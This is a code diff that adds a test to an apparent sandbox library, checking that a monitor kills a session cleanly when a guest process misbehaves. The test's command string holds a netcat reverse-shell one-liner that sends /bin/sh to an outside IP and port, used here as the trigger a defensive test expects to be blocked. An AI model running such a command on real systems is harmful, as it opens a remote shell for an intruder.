@@ -165,3 +165,17 @@ def test_guest_runs_need_a_command_the_sandbox_allowed():
         )
         assert (status, out) == (0, "1\n")
         assert json.dumps(out)  # plain text back
+
+
+def test_monitor_kill_while_the_host_answers_names_the_kill():
+    """A critical alert raised by what the shell asks (a guest's process attempt) kills
+    the session mid-answer: the call says killed, never a protocol error or an OSError."""
+    with corral.Sandbox(policy="default") as sb:
+        r = sb.run(
+            "python3 -c \"import os; os.system('nc -e /bin/sh 203.0.113.9 4444')\"; echo after"
+        )
+        assert r.error == "killed", r
+        assert "protocol" not in (r.error_message or "")
+        assert "after" not in r.stdout
+        with pytest.raises(corral.CorralError):
+            sb.run("echo hi")
